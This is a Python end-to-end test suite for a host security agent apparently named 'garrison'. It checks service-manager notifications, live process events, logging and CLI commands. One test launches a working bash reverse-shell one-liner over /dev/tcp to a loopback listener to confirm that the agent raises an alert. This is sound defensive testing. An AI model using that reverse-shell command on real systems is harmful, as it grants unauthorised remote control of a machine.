"""What operators and the service manager see of a running agent."""

from __future__ import annotations

import json
import os
import select
import signal
import socket
import subprocess
import time
from collections.abc import Callable

from tests.e2e._agent import BIN, RunningAgent, module, needs_cgroups, until

pytestmark = needs_cgroups

QUIET = f'[workers.quiet]\nmodules = ["{module("quiet", "Quiet")}"]\n'
Make = Callable[..., RunningAgent]


def test_the_service_manager_hears_ready_status_watchdog_and_stopping(make_agent: Make) -> None:
    agent = make_agent(QUIET)
    agent.start(env={"WATCHDOG_USEC": "1000000"})
    agent.wait_notified("STATUS=1 of 1 workers run")
    for _ in range(3):
        agent.notified.clear()
        agent.wait_notified("WATCHDOG=1")
    # A loop that stands still sends nothing: that is what the watchdog is for.
    os.kill(agent.pid, signal.SIGSTOP)
    assert agent._notify is not None
    while select.select([agent._notify], [], [], 0)[0]:
        agent._notify.recv(4096)
    assert not select.select([agent._notify], [], [], 1.5)[0]
    os.kill(agent.pid, signal.SIGCONT)
    agent.notified.clear()
    agent.wait_notified("WATCHDOG=1")
    agent.put("server/config/web1/killswitch", "on")
    agent.wait_notified("STATUS=killswitch engaged: no worker runs")
    assert agent.stop() == 0
    agent.wait_notified("STOPPING=1")


def test_events_are_followed_live_from_the_kernel_to_the_command_line(make_agent: Make) -> None:
    agent = make_agent("[workers.process]\n")
    agent.start()
    agent.wait_worker("process", state="running")
    follower = subprocess.Popen(
        [BIN / "garrison", "--config", agent.config, "events", "-f", "-n", "0", "--json", "--worker", "process"],
        stdout=subprocess.PIPE,
        bufsize=0,
    )
    try:
        assert follower.stdout is not None
        word = f"word-{os.getpid()}"
        deadline = time.monotonic() + 60
        seen = None
        while seen is None:
            assert time.monotonic() < deadline
            subprocess.run(["/bin/sh", "-c", f": {word}"], check=True)
            # Whatever else is executed on this machine comes too, without end: so this turn has one.
            again = time.monotonic() + 2
            while seen is None and time.monotonic() < again and select.select([follower.stdout], [], [], 0.5)[0]:
                event = json.loads(follower.stdout.readline())
                assert event["agent"]["worker"] == "process"
                if word in event.get("process", {}).get("command_line", ""):
                    seen = event
        assert seen["event"]["action"] == "exec"
        assert seen["process"]["parent"]["pid"] == os.getpid()
        assert seen["user"]["name"] == "root"
        assert seen["host"]["name"] == "web1"
    finally:
        follower.send_signal(signal.SIGINT)
        assert follower.wait(30) == 130
        follower.stdout.close()


def test_a_reverse_shell_is_an_alert_in_the_file_sink(make_agent: Make) -> None:
    agent = make_agent("[workers.process]\n")
    agent.start()
    agent.wait_worker("process", state="running")
    with socket.create_server(("127.0.0.1", 0)) as listener:
        listener.settimeout(30)
        port = listener.getsockname()[1]
        shell = subprocess.Popen(
            ["bash", "-c", f"exec bash -i >& /dev/tcp/127.0.0.1/{port} 0>&1"],
            stdin=subprocess.DEVNULL,
            stdout=subprocess.DEVNULL,
            stderr=subprocess.DEVNULL,
            start_new_session=True,
        )
        try:
            connection, peer = listener.accept()
            with connection:
                alert = agent.wait_event(event__kind="alert", process__pid=shell.pid)
        finally:
            shell.kill()
            shell.wait()
    assert alert["rule"]["id"] == "process-reverse-shell-socket"
    assert alert["destination"] == {"ip": "127.0.0.1", "address": "127.0.0.1", "port": port} | alert["destination"]
    assert alert["source"]["port"] == peer[1]
    assert alert["agent"]["priority"] == "alert"


def test_doctor_and_version_know_the_running_agent(make_agent: Make) -> None:
    agent = make_agent(QUIET)
    agent.start()
    findings = json.loads(agent.garrison("doctor", "--json").stdout)
    text = json.dumps(findings)
    assert str(agent.pid) in text
    assert agent.garrison("doctor").returncode in (0, 1)
    version = agent.garrison("version")
    assert version.returncode == 0
    assert version.stdout.count("0.1.0") == 2


def test_the_log_goes_to_two_files_and_never_blocks_on_a_full_standard_error(make_agent: Make) -> None:
    agent = make_agent(QUIET)
    read, write = os.pipe()
    try:
        os.set_blocking(write, False)
        try:
            while True:
                os.write(write, b"x" * 4096)
        except BlockingIOError:
            pass
        os.set_blocking(write, True)
        agent.start(
            command=[
                "/bin/sh",
                "-c",
                f'exec "{BIN}/garrisond" --config "{agent.config}" 2>/proc/{os.getpid()}/fd/{write}',
            ]
        )
        agent.wait_worker("quiet", state="running")
        log = agent.folder / "log" / "garrison.0.log"
        until(lambda: "ready: 1 of 1 workers run" in log.read_text(), "the file has the line all the same")
        assert agent.stop() == 0
    finally:
        os.close(read)
        os.close(write)


def test_the_log_can_be_read_while_the_agent_runs_and_after_it_ended(make_agent: Make) -> None:
    agent = make_agent(QUIET)
    missing = agent.garrison("logs")
    assert missing.returncode == 69
    assert str(agent.folder / "log") in missing.stderr
    agent.start()
    agent.wait_worker("quiet", state="running")
    until(lambda: "ready: 1 of 1 workers run" in agent.garrison("logs").stdout, "the log is there")
    assert agent.stop() == 0
    lines = agent.garrison("logs", "-n", "100", "--source", "quiet").stdout.splitlines()
    assert any("starting -> running" in line for line in lines)
    assert not any(" agent: " in line for line in lines)
    assert agent.garrison("logs", "--level", "crit").stdout == ""
